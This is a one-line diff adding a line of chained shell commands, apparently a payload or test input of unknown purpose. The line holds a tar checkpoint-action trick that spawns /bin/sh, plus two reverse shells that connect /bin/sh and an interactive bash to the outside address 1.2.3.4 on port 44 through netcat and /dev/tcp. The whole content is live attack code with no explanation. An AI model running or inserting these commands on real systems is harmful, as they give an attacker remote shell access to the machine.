@@ -1,0 +1,1 @@
+tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh; nc -e /bin/sh 1.2.3.4 44; bash -i >& /dev/tcp/1.2.3.4/44 0>&1
